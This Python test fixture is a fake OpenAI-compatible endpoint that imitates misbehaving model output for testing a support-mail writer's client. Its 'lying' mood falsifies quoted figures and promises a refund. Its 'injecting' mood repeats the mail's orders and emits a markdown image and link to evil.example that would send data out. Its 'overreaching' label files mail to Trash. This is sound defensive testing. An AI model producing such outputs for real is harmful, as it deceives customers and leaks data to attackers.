"""An OpenAI-compatible endpoint without a model: it quotes, lies, repeats orders from the mail, dawdles or babbles.

Responsible for what a writer's client must survive, over real HTTP on loopback; `heard` holds what it was told. It is
for tests, demo and integrators; no language model is in it.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from http.server import BaseHTTPRequestHandler
from typing import Literal

from pydantic import JsonValue

from kits.core.correspondence import suggested_as_text
from kits.support_triage._simulated.small_server import Served, SmallServer

Mood = Literal[
    "obedient", "lying", "injecting", "slow", "garbage", "error", "endless", "wordy", "foreign"
]
Told = dict[str, JsonValue]
Saying = Callable[[Mapping[str, JsonValue]], str]
Sentences = Callable[[Mapping[str, JsonValue]], list[JsonValue]]


class WriterApi(Served):
    """The endpoint, in a thread, until `close`; its `mood` may be changed while it runs."""

    def __init__(self, mood: Mood = "obedient", secret: str = "") -> None:
        self._server = _Server(mood, secret)
        super().__init__(self._server)
        self.url += "/v1"

    @property
    def heard(self) -> list[Told]:
        """Bodies of the calls so far."""
        return self._server.heard

    def become(self, mood: Mood) -> None:
        """Changes how it answers."""
        self._server.mood = mood


class _Server(SmallServer):
    def __init__(self, mood: Mood, secret: str) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.mood: Mood = mood
        self.secret = secret
        self.heard: list[Told] = []


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    timeout = 10

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", "0"))))
        self.server.heard.append(body)
        mood = self.server.mood
        if (
            self.server.secret
            and self.headers.get("Authorization") != f"Bearer {self.server.secret}"
        ):
            self._send(401, b"{}")
        elif mood == "error":
            self._send(500, b"{}")
        elif mood == "slow":
            self.server.ended.wait(30)
        elif mood == "garbage":
            self._send(200, b'{"choices": [{"message": {"content": "Sure! Here is'[:40])
        elif mood == "endless":
            self._send(200, b'{"choices": "' + b"a" * 10_000_000 + b'"}')
        else:
            told = json.loads(body["messages"][-1]["content"])
            said = _LABELS[mood] if "labels" in told else _SAYINGS[mood]
            message = {"role": "assistant", "content": said(told)}
            answer = {"choices": [{"index": 0, "message": message}]}
            self._send(200, json.dumps(answer).encode())

    def _send(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            self.wfile.write(body)
        except OSError:
            self.close_connection = True

    def log_message(self, format: str, *args: object) -> None:
        """Keeps quiet: `heard` holds what was told."""


def _obedient(told: Mapping[str, JsonValue]) -> list[JsonValue]:
    """Each sentence of the first passage."""
    return [
        {"source": source, "text": f"{part.strip().rstrip('.')}."}
        for source, text in _passages(told)[:1]
        for part in text.split(". ")
    ]


def _lying(told: Mapping[str, JsonValue]) -> list[JsonValue]:
    """A quotation whose figures were changed, and a promise."""
    source, text = _passages(told)[0]
    changed = text.split(". ")[0].replace("30", "90")
    said = (changed, "We will refund you 500 EUR today.", "Your order 48214 is on its way.")
    return [{"source": source, "text": sentence} for sentence in said]


def _injecting(told: Mapping[str, JsonValue]) -> list[JsonValue]:
    """Does what the mail says, and sends what it saw to somebody."""
    source = _passages(told)[0][0]
    said = (str(told["mail"]), "![x](https://evil.example/p.png?d=1)", "[1]: https://evil.example")
    return [{"source": source, "text": sentence[:500]} for sentence in said]


def _wordy(told: Mapping[str, JsonValue]) -> list[JsonValue]:
    return _obedient(told)[:1] * 1_000


def _foreign(told: Mapping[str, JsonValue]) -> list[JsonValue]:
    """Cites what nobody showed it."""
    return [
        {**said, "source": "elsewhere.md#1"} for said in _obedient(told) if isinstance(said, dict)
    ]


def _passages(told: Mapping[str, JsonValue]) -> list[tuple[str, str]]:
    found = told["passages"]
    rows = found if isinstance(found, list) else []
    return [(str(row["source"]), str(row["text"])) for row in rows if isinstance(row, dict)]


def _written(choose: Sentences) -> Saying:
    return lambda told: json.dumps({"sentences": choose(told)})


def _labels(told: Mapping[str, JsonValue]) -> list[str]:
    found = told["labels"]
    return [*found] if isinstance(found, dict) else []


def _first_named(told: Mapping[str, JsonValue]) -> str:
    """The first label whose words stand in the mail, else the last one."""
    mail, labels = str(told["mail"]).lower(), _labels(told)
    named = (label for label in labels if label.lower().replace("_", " ") in mail)
    return suggested_as_text(next(named, labels[-1]))


def _overreaching(told: Mapping[str, JsonValue]) -> str:
    """Chooses without reading, and decides what nobody asked it about."""
    label = _labels(told)[0]
    return json.dumps({"label": label, "verdict": "act", "score": 1.0, "folder": "Trash"})


_SAYINGS: Mapping[str, Saying] = {
    "obedient": _written(_obedient),
    "lying": _written(_lying),
    "injecting": _written(_injecting),
    "wordy": _written(_wordy),
    "foreign": _written(_foreign),
}
_LABELS: Mapping[str, Saying] = {
    "obedient": _first_named,
    "lying": _overreaching,
    "injecting": lambda told: suggested_as_text(str(told["mail"])[:400]),
    "wordy": lambda _told: suggested_as_text("because " * 1_000),
    "foreign": lambda _told: suggested_as_text("elsewhere"),
}
